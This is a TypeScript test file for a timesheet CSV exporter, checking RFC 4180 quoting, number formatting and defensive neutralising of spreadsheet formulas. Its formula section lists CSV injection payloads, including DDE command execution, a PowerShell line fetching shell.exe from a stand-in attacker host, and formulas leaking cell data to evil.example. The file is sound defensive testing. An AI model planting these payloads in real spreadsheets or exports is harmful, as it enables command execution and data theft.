import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import {
  type CsvCell,
  type CsvColumn,
  couldRunAsFormula,
  neutraliseFormula,
  tableToCsv,
  toCsv,
} from '@domain/timesheets/csv';

/**
 * A strict RFC 4180 reader, for checking the writer: records end in CRLF, a quoted field holds
 * anything with its quotes doubled, and an unquoted field holds no quote, CR or LF.
 */
function readCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  const fail = (why: string) => {
    throw new Error(`Not RFC 4180 at ${i}: ${why}`);
  };
  while (i < text.length) {
    let value = '';
    if (text[i] === '"') {
      i += 1;
      for (;;) {
        if (i >= text.length) fail('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            value += '"';
            i += 2;
          } else {
            i += 1;
            break;
          }
        } else {
          value += text[i];
          i += 1;
        }
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') fail('quote in an unquoted field');
        value += text[i];
        i += 1;
      }
    }
    record.push(value);
    if (text[i] === ',') {
      i += 1;
    } else if (text.startsWith('\r\n', i)) {
      records.push(record);
      record = [];
      i += 2;
    } else {
      fail('a record must end in CRLF');
    }
  }
  if (record.length > 0) fail('the last record has no CRLF');
  return records;
}

const text = (value: string): CsvCell => ({ text: value });

describe('toCsv escaping', () => {
  it('writes plain cells bare, records ending in CRLF', () => {
    expect(
      toCsv([
        [text('a'), text('b')],
        [text('c'), { number: 1 }],
      ]),
    ).toBe('a,b\r\nc,1\r\n');
    expect(toCsv([])).toBe('');
  });

  it('quotes fields that hold a comma, a quote, CR or LF, doubling quotes', () => {
    expect(toCsv([[text('Smith, John')]])).toBe('"Smith, John"\r\n');
    expect(toCsv([[text('the "big" client')]])).toBe('"the ""big"" client"\r\n');
    expect(toCsv([[text('"')]])).toBe('""""\r\n');
    expect(toCsv([[text('line 1\nline 2')]])).toBe('"line 1\nline 2"\r\n');
    expect(toCsv([[text('line 1\r\nline 2')]])).toBe('"line 1\r\nline 2"\r\n');
    expect(toCsv([[text('line 1\rline 2')]])).toBe('"line 1\rline 2"\r\n');
  });

  it('writes empty cells as empty fields', () => {
    expect(toCsv([[text(''), null, text('x'), null]])).toBe(',,x,\r\n');
    expect(readCsv(toCsv([[null, null]]))).toEqual([['', '']]);
  });

  it('keeps unicode and surrounding spaces as they are', () => {
    const values = ['£1,200 for Zoë', 'Müller – Straße', '東京 meeting', '🔐 audit 👩🏽‍💻', ' padded '];
    const csv = toCsv([values.map(text)]);
    expect(csv).toBe('"£1,200 for Zoë",Müller – Straße,東京 meeting,🔐 audit 👩🏽‍💻, padded \r\n');
    expect(readCsv(csv)).toEqual([values]);
  });

  it('starts with a UTF-8 byte order mark only when asked', () => {
    const rows = [[text('Zoë'), { number: 2 }]];
    expect(toCsv(rows, { bom: true })).toBe('\uFEFFZoë,2\r\n');
    expect(toCsv(rows)).toBe('Zoë,2\r\n');
    expect(toCsv([], { bom: true })).toBe('\uFEFF');
  });
});

describe('number cells', () => {
  it('stay numbers, negative ones included', () => {
    expect(toCsv([[{ number: -12.5, decimals: 2 }, { number: -3 }, { number: 0.25 }]])).toBe(
      '-12.50,-3,0.25\r\n',
    );
    expect(
      toCsv([
        [
          { number: 1234.5, decimals: 2 },
          { number: 7, decimals: 0 },
        ],
      ]),
    ).toBe('1234.50,7\r\n');
  });

  it('write zero without a sign', () => {
    expect(
      toCsv([[{ number: -0 }, { number: -0, decimals: 2 }, { number: -0.001, decimals: 2 }]]),
    ).toBe('0,0.00,0.00\r\n');
  });

  it('refuse what is not a finite number or a sane number of places', () => {
    for (const value of [Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY]) {
      expect(() => toCsv([[{ number: value }]])).toThrow(RangeError);
    }
    for (const decimals of [-1, 1.5, 21]) {
      expect(() => toCsv([[{ number: 1, decimals }]])).toThrow(RangeError);
    }
  });

  it('write integer pence as pounds exactly, to the penny', () => {
    fc.assert(
      fc.property(fc.integer({ min: -1_000_000_000_00, max: 1_000_000_000_00 }), (pence) => {
        const sign = pence < 0 ? '-' : '';
        const whole = Math.abs(pence);
        const expected = `${sign}${Math.floor(whole / 100)}.${String(whole % 100).padStart(2, '0')}`;
        expect(toCsv([[{ number: pence / 100, decimals: 2 }]])).toBe(`${expected}\r\n`);
      }),
      { numRuns: 10_000 },
    );
  });
});

describe('formula neutralising', () => {
  // Payloads from OWASP's CSV injection page and published DDE and exfiltration write-ups, and
  // the same with what a spreadsheet app may strip before it reads a formula.
  const payloads = [
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(1+1)',
    '\t=1',
    '\r=1',
    '=1+1',
    '=HYPERLINK("http://x","y")',
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for details")',
    "=cmd|' /C powershell IEX(wget attacker.example/shell.exe)'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=IMAGE("http://evil.example/pixel.png")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '@A1',
    '-',
    '+',
    '=',
    '@',
    '\t',
    '\r',
    '\tplain after a tab',
    '\r\n=1',
    // Leading spaces or quotes that an importer trims or unquotes before it looks.
    ' =1+1',
    '   +1+1',
    '\u00A0=1+1',
    '\n=1+1',
    '"=1+1"',
    '""=1+1',
    '" @SUM(1+1)',
    // Full-width signs some East Asian setups treat as the plain ones.
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(1+1)',
  ];

  it.each(payloads)('neutralises %j', (payload) => {
    expect(couldRunAsFormula(payload)).toBe(true);
    expect(neutraliseFormula(payload)).toBe(`'${payload}`);
    const [[field]] = readCsv(toCsv([[text(payload)]])) as [[string]];
    expect(field).toBe(`'${payload}`);
  });

  it('leaves ordinary descriptions alone', () => {
    const safe = [
      'Client call',
      'Risk review - board pack',
      'e-mail to ops@example.com',
      '100% done',
      '1+1 workshop',
      "'=1 already marked as text",
      '',
      'Zoë’s ISO 27001 gap analysis',
    ];
    for (const value of safe) {
      expect(couldRunAsFormula(value)).toBe(false);
      expect(readCsv(toCsv([[text(value)]]))).toEqual([[value]]);
    }
  });

  it('never touches number cells', () => {
    expect(toCsv([[{ number: -5 }, text('-5'), { number: -0.5, decimals: 2 }]])).toBe(
      "-5,'-5,-0.50\r\n",
    );
  });

  it('leaves no read-back text cell starting like a formula', () => {
    const risky = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', ',', '＝', 'a');
    const textValue = fc.oneof(
      fc.string({ unit: 'grapheme', maxLength: 30 }),
      fc
        .tuple(fc.array(risky, { maxLength: 4 }), fc.string({ maxLength: 10 }))
        .map(([lead, rest]) => lead.join('') + rest),
    );
    const cell: fc.Arbitrary<CsvCell> = fc.oneof(
      textValue.map(text),
      fc
        .integer({ min: -10_000_000, max: 10_000_000 })
        .map((p) => ({ number: p / 100, decimals: 2 })),
      fc.constant(null),
    );
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 1, maxLength: 6 }), { maxLength: 8 }),
        fc.boolean(),
        (rows, bom) => {
          const csv = toCsv(rows, { bom });
          const read = readCsv(bom ? csv.slice(1) : csv);
          expect(read).toEqual(
            rows.map((row) =>
              row.map((c) => {
                if (c === null) return '';
                if ('text' in c) return neutraliseFormula(c.text);
                return c.number.toFixed(2).replace(/^-(0\.00)$/, '$1');
              }),
            ),
          );
          rows.forEach((row, r) =>
            row.forEach((c, f) => {
              if (c && 'text' in c) {
                const value = read[r]?.[f] ?? '';
                expect(value === c.text || value === `'${c.text}`).toBe(true);
                expect(/^[=+\-@\t\r]/.test(value)).toBe(false);
                expect(/^[=+\-@＝＋－＠]/.test(value.replace(/^[\s"]+/, ''))).toBe(false);
              }
            }),
          );
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe('tableToCsv', () => {
  interface Line {
    description: string;
    minutes: number;
    amountPence: number | null;
  }
  const columns: CsvColumn<Line>[] = [
    { header: 'Description', cell: (line) => ({ text: line.description }) },
    { header: 'Minutes', cell: (line) => ({ number: line.minutes }) },
    {
      header: 'Amount (£)',
      cell: (line) =>
        line.amountPence === null ? null : { number: line.amountPence / 100, decimals: 2 },
    },
  ];

  it('writes a header record and a record per line, text neutralised and numbers kept', () => {
    const lines: Line[] = [
      { description: 'Board prep, Q4', minutes: 95, amountPence: 19_792 },
      { description: '=HYPERLINK("http://x","y")', minutes: 30, amountPence: null },
      { description: 'Credit note', minutes: 0, amountPence: -2_500 },
    ];
    const csv = tableToCsv(columns, lines, { bom: true });
    expect(csv).toBe(
      '\uFEFFDescription,Minutes,Amount (£)\r\n' +
        '"Board prep, Q4",95,197.92\r\n' +
        '"\'=HYPERLINK(""http://x"",""y"")",30,\r\n' +
        'Credit note,0,-25.00\r\n',
    );
    expect(readCsv(csv.slice(1))).toEqual([
      ['Description', 'Minutes', 'Amount (£)'],
      ['Board prep, Q4', '95', '197.92'],
      ['\'=HYPERLINK("http://x","y")', '30', ''],
      ['Credit note', '0', '-25.00'],
    ]);
  });

  it('writes just the header when there are no lines', () => {
    expect(tableToCsv(columns, [])).toBe('Description,Minutes,Amount (£)\r\n');
  });
});
